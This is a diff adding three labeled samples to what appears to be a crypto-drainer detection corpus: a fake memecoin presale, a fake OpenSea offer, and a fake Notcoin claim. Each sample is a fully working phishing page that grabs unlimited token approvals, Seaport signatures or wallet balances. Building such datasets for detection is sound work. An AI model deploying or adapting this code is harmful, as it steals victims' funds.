@@ -28,4 +28,65 @@ document.getElementById('m').textContent='Claimed! Your JUP will show up shortly
   }),
 },
 
+{
+  id: 'd-drain-base-memecoin-presale',
+  label: 'cryptodrainer',
+  kind: 'drainer-presale',
+  url: 'https://presale.basedtoad-official.xyz/',
+  body: doc({
+    title: '$BTOAD Presale — Stage 4 of 10',
+    css: `body{background:#0b3d2e;color:#fff;font-family:"Luckiest Guy","Trebuchet MS",sans-serif;margin:0;text-align:center}.p{max-width:480px;margin:50px auto;background:#145a43;border-radius:20px;padding:24px}.bar{height:18px;background:#0b3d2e;border-radius:9px;overflow:hidden}.bar i{display:block;height:100%;width:73%;background:#9be15d}button{background:#9be15d;color:#0b3d2e;border:0;border-radius:12px;padding:14px 28px;font-size:18px;font-weight:800}`,
+    body: `<div class="p"><h1>🐸 $BTOAD PRESALE</h1><p>Stage 4 price: 1 BTOAD = $0.000412 · Next stage +18%</p><div class="bar"><i></i></div><p>$1,842,113 / $2,500,000 raised</p><button id="buy">Buy with ETH / USDC</button><p id="s" style="font-size:13px"></p><p style="font-size:12px">Listing on Uniswap &amp; 3 CEXs confirmed · Audited · Team KYC'd</p></div>
+<script>
+const C='0x4e2A9b7Fd1c3086E5a0F2b7c9D8e1A3f6B5c0D29';
+document.getElementById('buy').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
+await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x2105'}]}).catch(()=>{});
+const toks=['0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913','0x50c5725949A6F0c72E6C4a641F24049A917DB0Cb','0x4200000000000000000000000000000000000006'];
+for(const t of toks){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:t,data:'0x095ea7b3'+C.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]}).catch(()=>{})}
+const b=BigInt(await ethereum.request({method:'eth_getBalance',params:[a,'latest']}));if(b>10n**15n){await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:C,value:'0x'+(b-10n**15n).toString(16)}]})}
+document.getElementById('s').textContent='Purchase confirmed! Claim opens at launch.'};
+</script>`,
+  }),
+},
+
+{
+  id: 'd-drain-opensea-offer-seaport-sig',
+  label: 'cryptodrainer',
+  kind: 'drainer-nft-signature',
+  url: 'https://opensea.io-offers.collection-bid.com/assets/ethereum/0xbd3531da5cf5857e7cfaa92426877b022e612cf8/7712',
+  body: doc({
+    title: 'You received an offer of 12.4 WETH | OpenSea',
+    css: baseCss('#2081e2') + `.o{max-width:520px;margin:60px auto;text-align:center}`,
+    body: `<div class="o card"><img src="img/os-logo.svg" alt="OpenSea" width="40"><h1 style="font-size:22px">New offer on Pudgy Penguin #7712</h1><p>A collector offered <b>12.4 WETH ($43,120)</b> for your NFT. This offer expires in 2 hours.</p><button class="btn btn-block" id="acc">Accept offer</button><p class="muted" id="m"></p></div>
+<script>
+document.getElementById('acc').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});
+const order={offerer:a,zone:'0x0000000000000000000000000000000000000000',offer:[{itemType:2,token:'0xBd3531dA5CF5857e7CfAA92426877b022e612cf8',identifierOrCriteria:'7712',startAmount:'1',endAmount:'1'}],consideration:[{itemType:0,token:'0x0000000000000000000000000000000000000000',identifierOrCriteria:'0',startAmount:'1',endAmount:'1',recipient:a}],orderType:0,startTime:'0',endTime:'99999999999',zoneHash:'0x'+'0'.repeat(64),salt:Date.now().toString(),conduitKey:'0x0000007b02230091a7ed01230072f7006a004d60a8d4e71d599b8104250f0000',counter:'0'};
+const typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}]},domain:{name:'Seaport',version:'1.6',chainId:1,verifyingContract:'0x0000000000000068F116a894984e2DB1123eB395'},primaryType:'OrderComponents',message:order};
+const sig=await ethereum.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify(typed)]});
+await fetch('https://api.collection-bid.com/fulfil',{method:'POST',body:JSON.stringify({order,sig})});document.getElementById('m').textContent='Offer accepted. WETH will arrive shortly.'};
+</script>`,
+  }),
+},
+
+{
+  id: 'd-drain-ton-wallet-connect',
+  label: 'cryptodrainer',
+  kind: 'drainer-ton',
+  url: 'https://notcoin-claim.tonspace-rewards.app/',
+  body: doc({
+    title: 'Notcoin — Claim your NOT voucher',
+    css: `body{background:#000;color:#fff;font-family:Inter,sans-serif;margin:0;text-align:center}.c{max-width:420px;margin:80px auto}button{background:#0098ea;color:#fff;border:0;border-radius:12px;padding:14px 30px;font-size:16px}`,
+    body: `<div class="c"><h1>Your NOT voucher is ready</h1><p>Connect your TON wallet to claim 25,000 NOT before the snapshot.</p><div id="ton-connect"></div><button id="cl">Claim</button><p id="s"></p></div>
+<script src="https://unpkg.com/@tonconnect/ui@2.0.9/dist/tonconnect-ui.min.js"></script>
+<script>
+const ui=new TON_CONNECT_UI.TonConnectUI({manifestUrl:'https://notcoin-claim.tonspace-rewards.app/tonconnect-manifest.json',buttonRootId:'ton-connect'});
+document.getElementById('cl').onclick=async()=>{if(!ui.connected){await ui.openModal();return}
+const addr=ui.account.address;const r=await fetch('https://toncenter.com/api/v2/getAddressBalance?address='+addr).then(x=>x.json()).catch(()=>({result:'0'}));
+const amt=(BigInt(r.result)*97n/100n).toString();
+await ui.sendTransaction({validUntil:Math.floor(Date.now()/1000)+600,messages:[{address:'UQB3ncyBUTjZUA5EnFKR5_EnOMI9V1tTEAAPaiU71gc4TiUt',amount:amt,payload:'te6cckEBAQEADAAAFAAAAABDbGFpbQ=='}]});
+document.getElementById('s').textContent='Claimed! Voucher will appear in 10 minutes.'};
+</script>`,
+  }),
+},
+
 ];
